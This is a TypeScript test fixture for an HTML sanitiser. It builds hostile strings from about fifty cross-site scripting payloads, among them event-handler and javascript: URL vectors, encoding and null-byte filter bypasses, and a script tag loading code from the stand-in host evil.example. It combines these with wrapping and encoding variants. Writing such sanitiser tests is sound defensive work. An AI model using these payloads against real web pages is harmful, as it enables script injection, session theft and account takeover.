/**
 * Test helpers: hostile HTML for the reasons' sanitiser, built from pieces (script tags, event
 * handlers, javascript: URLs, entities, nested and broken tags, comments, CDATA, SVG, style) and
 * their combinations. A `javascript:` appears only inside an attribute, a script or a style, never
 * as text, so that no cleaned string may hold one.
 */

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script type="text/javascript">document.location="javascript:alert(1)"</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(\'x\')"/>',
  '<a href="javascript:alert(1)">link</a>',
  '<a href="JaVaScRiPt:alert(1)">link</a>',
  '<a href="jav&#x09;ascript:alert(1)">link</a>',
  '<a href=javascript:alert(1)>link</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg text</text></a></svg>',
  '<svg><style>@import "javascript:alert(1)";</style></svg>',
  '<svg><![CDATA[<script>alert(1)</script>]]></svg>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<!-- <script>alert(1)</script> -->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;b&amp;gt;bold&amp;lt;/b&amp;gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x3C;a href="javascript:alert(1)"&#x3E;x&#x3C;/a&#x3E;',
  '<b><i>nested</b></i>',
  '<div <div>>broken</div>',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</script>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<math><mi xlink:href="javascript:alert(1)">math</mi></math>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<img src="x',
  "<a href='javascript:alert(1)'",
  '</',
  '<!',
  '<?xml version="1.0"?>',
  '<!DOCTYPE html>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><b>rest',
  '\u0000<script>alert(1)</script>',
  '<sc\u0000ript>alert(1)</script>',
];

const TEXTS = ['Hand made in Devon', 'Fish &amp; chips since 1987', '5 < 6 and 7 > 3', ''];

/** Ways a payload is dressed: as is, wrapped, as an attribute's value, encoded once and twice. */
const WRAPPERS: ((payload: string, text: string) => string)[] = [
  (payload) => payload,
  (payload, text) => `${text} ${payload}`,
  (payload, text) => `<p>${text}<b>${payload}</b></p>`,
  (payload, text) => `<div title="${payload.replaceAll('"', '&quot;')}">${text}</div>`,
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) => payload.replaceAll('&', '&amp;').replaceAll('<', '&amp;lt;'),
];

function build(): string[] {
  const strings = new Set<string>();
  for (const [p, payload] of PAYLOADS.entries()) {
    for (const [w, wrap] of WRAPPERS.entries()) {
      strings.add(wrap(payload, TEXTS[(p + w) % TEXTS.length]!));
    }
    // Two payloads around some text, and one inside another.
    const next = PAYLOADS[(p * 7 + 3) % PAYLOADS.length]!;
    strings.add(`${payload}${TEXTS[p % TEXTS.length]}${next}`);
    strings.add(next.replace('>', `>${payload}`));
  }
  return [...strings];
}

export const HOSTILE_STRINGS: readonly string[] = build();
